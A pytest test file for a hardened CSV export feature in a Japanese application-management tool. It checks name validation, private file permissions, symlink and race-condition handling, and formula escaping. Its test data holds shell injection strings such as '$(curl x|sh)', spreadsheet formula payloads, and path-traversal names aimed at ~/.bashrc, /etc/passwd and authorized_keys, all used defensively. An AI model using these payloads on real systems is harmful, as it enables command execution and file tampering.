"""CSV export into the one export folder (issue 11, finding 1: the export wrote anywhere).

A name, never a path; the file 0600 in a 0700 folder; nothing at the name replaced
unless it is an export this app wrote and the caller says overwrite; symbolic links
never followed; a failure leaves the folder as it was. The use cases run on SQLite and
PostgreSQL (the ``ctx`` fixture is parametrized)."""

from __future__ import annotations

import csv
import grp
import os
import stat
from datetime import date, datetime, timezone
from pathlib import Path

import pytest

from portplus_tui.core.errors import AuthError, ValidationError
from portplus_tui.services import applications as apps
from portplus_tui.services import exports
from portplus_tui.services.exports import ExportExists, ExportFailed, ExportRefused

APPLY = date(2026, 3, 6)  # a business day with an open deadline (START is 2026-03-02)
HEADER = ("申込番号", "申込者")
ROWS = [("P-1", "=cmd"), ("P-2", "$(touch /tmp/pwned)")]


def mode_of(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def rows_of(path: Path) -> list[list[str]]:
    return list(csv.reader(path.read_text(encoding="utf-8").splitlines()))


def listing(folder: Path) -> list[str]:
    return sorted(os.listdir(folder))


def app_csv(folder: Path, name: str, body: str = "old,row\r\n", mode: int = 0o600) -> Path:
    """A file as an earlier export left it (the header first)."""
    folder.mkdir(mode=0o700, parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(exports.header_line(HEADER) + body.encode("utf-8"))
    os.chmod(path, mode)
    return path


def make_foreign(path: Path, monkeypatch) -> None:
    """``path`` belongs to another user: chown when the tests run as root, else the
    module's lstat/fstat report another owner for that inode."""
    if os.geteuid() == 0:
        os.chown(path, 65534, 65534, follow_symlinks=False)
        return
    info = os.lstat(path)
    key = (info.st_dev, info.st_ino)
    real_lstat, real_fstat = os.lstat, os.fstat

    def other(result: os.stat_result) -> os.stat_result:
        if (result.st_dev, result.st_ino) != key:
            return result
        values = list(result[:10])
        values[4] = os.geteuid() + 1  # st_uid
        return os.stat_result(values)

    monkeypatch.setattr(exports.os, "lstat", lambda *a, **k: other(real_lstat(*a, **k)))
    monkeypatch.setattr(exports.os, "fstat", lambda *a, **k: other(real_fstat(*a, **k)))


# ------------------------------------------------------------------ names
@pytest.mark.parametrize("text", [
    "/tmp/x.sh", "../../x.csv", "~/.bashrc", ".bashrc", "a/b.csv", "a\\b.csv", "x\x00y",
    "", "   ", ".", "..", "../", "/", "x" * 97 + ".csv", "x" * 10_000, "あ" * 90,
    "\x1b[31mred.csv", "\x1b]0;title\x07.csv", "a\nb.csv", "a\rb", "\u202egnp.csv",
    "a\u2028b", "..\\..\\x.csv", "C:\\x.csv", "a:b.csv", 'a"b', "a|b", "a*b", "a?b",
    "<x>", "\ud800x", "~/x", " /etc/passwd", ".portplus-export-0.tmp",
])
def test_paths_and_bad_names_are_refused(text):
    with pytest.raises(ValidationError) as exc:
        exports.export_name(text)
    assert exc.value.field == "name" and exc.value.code == "export_name"
    assert exc.value.message("ja") and exc.value.message("en")
    for lang in ("ja", "en"):  # the message never repeats a control character raw
        assert not any(c in exc.value.message(lang) for c in "\x00\x1b\x07\n\r\u202e")


@pytest.mark.parametrize("text, name", [
    ("report", "report.csv"), ("report.csv", "report.csv"), ("Report.CSV", "Report.CSV"),
    ("x.txt", "x.txt.csv"), ("  申込一覧 2026年3月 ", "申込一覧 2026年3月.csv"),
    ("~x", "~x.csv"), ("x" * 96, "x" * 96 + ".csv"), ("ｘ／ｙ", "ｘ／ｙ.csv"),
    ("portplus-20260302-100000.csv", "portplus-20260302-100000.csv"), ("a..b", "a..b.csv"),
])
def test_names_accepted_get_csv(text, name):
    assert exports.export_name(text) == name


def test_default_name():
    now = datetime(2026, 3, 2, 1, 0, 5, tzinfo=timezone.utc)
    local = now.astimezone().strftime("%Y%m%d-%H%M%S")
    assert exports.default_name(now) == f"portplus-{local}.csv"
    assert exports.export_name(exports.default_name(now)) == exports.default_name(now)


# ------------------------------------------------------------------ writing
def test_writes_0600_in_a_0700_folder(tmp_path):
    folder = tmp_path / "data" / "exports"
    written = exports.write_export(iter(ROWS), HEADER, folder, "out")
    assert written.path == folder / "out.csv" and written.count == 2 and not written.replaced
    assert mode_of(folder) == 0o700 and mode_of(written.path) == 0o600
    assert rows_of(written.path) == [list(HEADER), *map(list, ROWS)]
    assert listing(folder) == ["out.csv"]  # no temporary file left


def test_a_path_given_as_name_writes_nothing(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    bashrc = home / ".bashrc"
    bashrc.write_text("# mine\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(home)
    folder = tmp_path / "exports"
    for name in ("~/.bashrc", str(bashrc), "../home/.bashrc", ".bashrc"):
        with pytest.raises(ValidationError):
            exports.write_export(iter(ROWS), HEADER, folder, name, overwrite=True)
    assert bashrc.read_text() == "# mine\n" and listing(home) == [".bashrc"]
    assert not folder.exists()


def test_an_existing_folder_is_made_private(tmp_path):
    folder = tmp_path / "exports"
    folder.mkdir(mode=0o755)
    os.chmod(folder, 0o755)
    exports.write_export(iter(ROWS), HEADER, folder, "x")
    assert mode_of(folder) == 0o700


def test_a_foreign_folder_is_refused(tmp_path, monkeypatch):
    folder = tmp_path / "exports"
    folder.mkdir(mode=0o755)
    os.chmod(folder, 0o755)
    make_foreign(folder, monkeypatch)
    with pytest.raises(ExportRefused) as exc:
        exports.write_export(iter(ROWS), HEADER, folder, "x")
    assert "does not belong" in exc.value.message("en")
    assert listing(folder) == []


def test_a_symlink_at_the_name_is_not_followed(tmp_path):
    outside = tmp_path / "authorized_keys"
    outside.write_text("ssh-ed25519 AAAA mine\n")
    os.chmod(outside, 0o600)
    folder = tmp_path / "exports"
    folder.mkdir(mode=0o700)
    (folder / "keys.csv").symlink_to(outside)
    # Even a symlink to a file that looks like an export of ours.
    ours = app_csv(tmp_path / "elsewhere", "old.csv")
    (folder / "old.csv").symlink_to(ours)
    for name in ("keys.csv", "old.csv"):
        for overwrite in (False, True):
            with pytest.raises(ExportRefused) as exc:
                exports.write_export(iter(ROWS), HEADER, folder, name, overwrite=overwrite)
            assert "symbolic link" in exc.value.message("en")
            assert "シンボリックリンク" in exc.value.message("ja")
    assert outside.read_text() == "ssh-ed25519 AAAA mine\n"
    assert rows_of(ours) == [list(HEADER), ["old", "row"]]
    assert (folder / "keys.csv").is_symlink() and (folder / "old.csv").is_symlink()
    assert listing(folder) == ["keys.csv", "old.csv"]


@pytest.mark.parametrize("kind", ["no header", "other's", "group-readable",
                                  "world-readable", "executable", "folder", "fifo",
                                  "header later"])
def test_a_foreign_file_is_never_replaced(tmp_path, monkeypatch, kind):
    folder = tmp_path / "exports"
    folder.mkdir(mode=0o700)
    target = folder / "x.csv"
    if kind == "no header":
        target.write_text("echo hi\n")
        os.chmod(target, 0o600)
    elif kind == "header later":
        target.write_bytes(b"#!/bin/sh\n" + exports.header_line(HEADER))
        os.chmod(target, 0o600)
    elif kind == "folder":
        target.mkdir()
    elif kind == "fifo":
        os.mkfifo(target, 0o600)
    else:
        mode = {"group-readable": 0o640, "world-readable": 0o604,
                "executable": 0o700}.get(kind, 0o600)
        app_csv(folder, "x.csv", mode=mode)
        if kind == "other's":
            make_foreign(target, monkeypatch)
    before = os.lstat(target)
    content = target.read_bytes() if target.is_file() else None
    for overwrite in (False, True):
        with pytest.raises(ExportRefused) as exc:
            exports.write_export(iter(ROWS), HEADER, folder, "x.csv", overwrite=overwrite)
        assert "x.csv" in exc.value.message("en") and "not replaced" in exc.value.message("en")
    after = os.lstat(target)
    assert (after.st_ino, after.st_mode, after.st_mtime_ns) == (
        before.st_ino, before.st_mode, before.st_mtime_ns)
    if content is not None:
        assert target.read_bytes() == content
    assert listing(folder) == ["x.csv"]


def test_an_earlier_export_is_replaced_only_with_overwrite(tmp_path):
    folder = tmp_path / "exports"
    first = exports.write_export(iter(ROWS[:1]), HEADER, folder, "x")
    with pytest.raises(ExportExists) as exc:
        exports.write_export(iter(ROWS), HEADER, folder, "x")
    assert exc.value.path == folder / "x.csv"
    assert rows_of(first.path) == [list(HEADER), list(ROWS[0])]
    again = exports.write_export(iter(ROWS), HEADER, folder, "x.csv", overwrite=True)
    assert again.replaced and again.count == 2
    assert rows_of(again.path) == [list(HEADER), *map(list, ROWS)]
    assert mode_of(again.path) == 0o600 and listing(folder) == ["x.csv"]
    # overwrite with nothing there: simply written
    fresh = exports.write_export(iter(ROWS), HEADER, folder, "y", overwrite=True)
    assert not fresh.replaced and listing(folder) == ["x.csv", "y.csv"]


def test_a_failure_half_way_leaves_the_folder_as_it_was(tmp_path):
    folder = tmp_path / "exports"
    old = app_csv(folder, "x.csv")
    content = old.read_bytes()

    def broken(error):
        yield ROWS[0]
        yield ROWS[1]
        raise error

    with pytest.raises(RuntimeError):
        exports.write_export(broken(RuntimeError("database went away")), HEADER, folder,
                             "x.csv", overwrite=True)
    with pytest.raises(ExportFailed) as exc:
        exports.write_export(broken(OSError(28, os.strerror(28))), HEADER, folder, "x.csv",
                             overwrite=True)
    assert os.strerror(28) in exc.value.message("en")
    with pytest.raises(RuntimeError):
        exports.write_export(broken(RuntimeError("x")), HEADER, folder, "new.csv")
    assert listing(folder) == ["x.csv"] and old.read_bytes() == content


def test_a_symlink_planted_during_the_write_is_refused(tmp_path):
    folder = tmp_path / "exports"
    folder.mkdir(mode=0o700)
    outside = tmp_path / "bashrc"
    outside.write_text("# mine\n")

    def rows():
        yield ROWS[0]
        (folder / "x.csv").symlink_to(outside)  # after the first check
        yield ROWS[1]

    with pytest.raises(ExportRefused):
        exports.write_export(rows(), HEADER, folder, "x.csv", overwrite=True)
    assert outside.read_text() == "# mine\n" and listing(folder) == ["x.csv"]


def test_a_symlink_planted_after_the_last_check_is_replaced_not_followed(tmp_path,
                                                                         monkeypatch):
    """The last window: between the re-check and the move. rename() replaces the link."""
    folder = tmp_path / "exports"
    app_csv(folder, "x.csv")
    outside = tmp_path / "authorized_keys"
    outside.write_text("ssh-ed25519 AAAA mine\n")
    real = exports._existing
    calls = []

    def existing(dir_fd, name, *args):
        found = real(dir_fd, name, *args)
        calls.append(found)
        if len(calls) == 2:  # the re-check before the move
            os.unlink(folder / name)
            os.symlink(outside, folder / name)
        return found

    monkeypatch.setattr(exports, "_existing", existing)
    written = exports.write_export(iter(ROWS), HEADER, folder, "x.csv", overwrite=True)
    assert calls == [True, True] and written.replaced
    assert outside.read_text() == "ssh-ed25519 AAAA mine\n"
    assert not written.path.is_symlink() and mode_of(written.path) == 0o600
    assert rows_of(written.path) == [list(HEADER), *map(list, ROWS)]
    assert listing(folder) == ["x.csv"]


def test_a_file_appearing_after_the_last_check_is_not_replaced(tmp_path, monkeypatch):
    """No overwrite asked and nothing there at the re-check: the name is taken only if
    still free (link), so a file appearing meanwhile is kept."""
    folder = tmp_path / "exports"
    folder.mkdir(mode=0o700)
    real = exports._existing
    calls = []

    def existing(dir_fd, name, *args):
        found = real(dir_fd, name, *args)
        calls.append(found)
        if len(calls) == 2:
            app_csv(folder, name, body="theirs\r\n")
        return found

    monkeypatch.setattr(exports, "_existing", existing)
    with pytest.raises(ExportExists):
        exports.write_export(iter(ROWS), HEADER, folder, "x.csv")
    assert rows_of(folder / "x.csv") == [list(HEADER), ["theirs"]]
    assert listing(folder) == ["x.csv"]


def test_shared_group_mode(tmp_path):
    group = grp.getgrgid(os.getegid()).gr_name
    folder = tmp_path / "exports"
    written = exports.write_export(iter(ROWS), HEADER, folder, "x", shared_group=group)
    assert mode_of(folder) == 0o2770 and mode_of(written.path) == 0o660
    assert os.stat(written.path).st_gid == os.getegid()
    again = exports.write_export(iter(ROWS), HEADER, folder, "x", overwrite=True,
                                 shared_group=group)
    assert again.replaced and mode_of(again.path) == 0o660
    os.chmod(again.path, 0o664)  # readable by everyone: not ours any more
    with pytest.raises(ExportRefused):
        exports.write_export(iter(ROWS), HEADER, folder, "x", overwrite=True,
                             shared_group=group)


# ------------------------------------------------------------------ the use cases
def test_write_csv_exports_the_search_into_the_export_folder(ctx, tenant):
    s = tenant.user_session  # role user
    made = [apps.create(ctx, s, apply_date=APPLY, ports=n, applicant=text)
            for n, text in ((1, "$(curl x|sh)"), (2, "=1+1"))]
    apps.cancel(ctx, s, made[1].id, version=made[1].version)
    folder = ctx.settings.resolved_export_dir
    assert folder == Path(ctx.settings.resolved_data_dir) / "exports"
    written = exports.write_csv(ctx, s, "march", APPLY, APPLY, include_cancelled=False)
    assert written.path == folder / "march.csv" and written.count == 1
    assert mode_of(folder) == 0o700 and mode_of(written.path) == 0o600
    expected = list(apps.export_rows(ctx, s, APPLY, APPLY, include_cancelled=False))
    assert rows_of(written.path) == [list(apps.EXPORT_HEADER),
                                     *[[str(c) for c in r] for r in expected]]
    everything = exports.write_csv(ctx, s, "all.CSV", overwrite=False)
    assert everything.count == 2 and everything.path.name == "all.CSV"
    with pytest.raises(ExportExists):
        exports.write_csv(ctx, s, "march")
    with pytest.raises(ValidationError):
        exports.write_csv(ctx, s, "../march")
    assert listing(folder) == ["all.CSV", "march.csv"]


def test_write_csv_in_the_export_dir_setting(ctx, tenant, tmp_path):
    elsewhere = tmp_path / "somewhere" / "exports"
    ctx.settings = ctx.settings.replace(export_dir=elsewhere)
    written = exports.write_csv(ctx, tenant.admin_session, "x")
    assert written.path == elsewhere / "x.csv" and mode_of(elsewhere) == 0o700


def test_write_csv_checks_the_session_before_touching_the_disk(ctx, tenant, other_tenant):
    forged = other_tenant.admin_session
    forged.company_id = tenant.company.id
    with pytest.raises(AuthError):
        exports.write_csv(ctx, forged, "x")
    with pytest.raises(AuthError):
        exports.download(ctx, forged, "x")
    assert not ctx.settings.resolved_export_dir.exists()


def test_download_writes_nothing(ctx, tenant):
    s = tenant.user_session
    apps.create(ctx, s, apply_date=APPLY, ports=3, applicant="=HYPERLINK(1)")
    got = exports.download(ctx, s, "for-browser")
    assert got.name == "for-browser.csv" and got.count == 1
    assert not ctx.settings.resolved_export_dir.exists()
    written = exports.write_csv(ctx, s, "same")
    assert written.path.read_bytes() == got.text.encode("utf-8")  # the same bytes (CRLF)
    assert got.text.splitlines()[1].split(",")[3] == "'=HYPERLINK(1)"
    with pytest.raises(ValidationError):
        exports.download(ctx, s, "~/.bashrc")
